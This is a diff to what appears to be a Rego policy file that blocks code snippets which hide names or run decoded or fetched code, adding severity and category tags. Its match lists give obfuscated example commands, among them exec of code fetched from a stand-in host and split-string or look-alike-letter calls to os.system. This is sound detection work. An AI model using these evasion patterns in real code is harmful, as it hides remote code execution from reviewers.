@@ -14,6 +14,8 @@ import data.fumehood.lib
 # title: Snippets must not run decoded or fetched code
 # custom:
 #   rule: snippet.hidden-code
+#   severity: high
+#   category: evasion
 #   match: ["python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'", "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x.example/a\").read())'", "node -e 'eval(atob(\"eA==\"))'", "python3 - <<'EOF'\nimport os\nexec(os.environ[\"X\"])\nEOF"]
 #   not_match: ["python3 -c 'import base64; print(base64.b64decode(\"eA==\"))'", "python3 -c 'print(eval(\"1 + 1\"))'", "node -e 'console.log(atob(\"eA==\"))'", "python3 x.py"]
 deny contains lib.denial("snippet.hidden-code", sprintf("line %d of the snippet %s", [f.line, f.message]), "write the code literally, so that it can be read") if {
@@ -25,6 +27,8 @@ deny contains lib.denial("snippet.hidden-code", sprintf("line %d of the snippet 
 # title: Snippets must not hide names
 # custom:
 #   rule: snippet.hidden-name
+#   severity: high
+#   category: evasion
 #   match: ["python3 -c 'getattr(__import__(\"o\"+\"s\"), \"sys\"+\"tem\")(\"id\")'", "node -e 'require(\"child_\" + \"process\").execSync(\"id\")'", "node -e 'globalThis[\"ev\"+\"al\"](\"1\")'", "python3 -c 'import os; os.ｓystem(\"id\")'"]
 #   not_match: ["python3 -c 'import mypkg; print(getattr(mypkg, \"a\"))'", "python3 -c 'größe = 1; print(größe)'", "node -e 'console.log(\"a\" + \"b\", process.env[\"HOME\"])'"]
 deny contains lib.denial("snippet.hidden-name", sprintf("line %d of the snippet: %s", [f.line, f.message]), "write names literally, in plain letters") if {
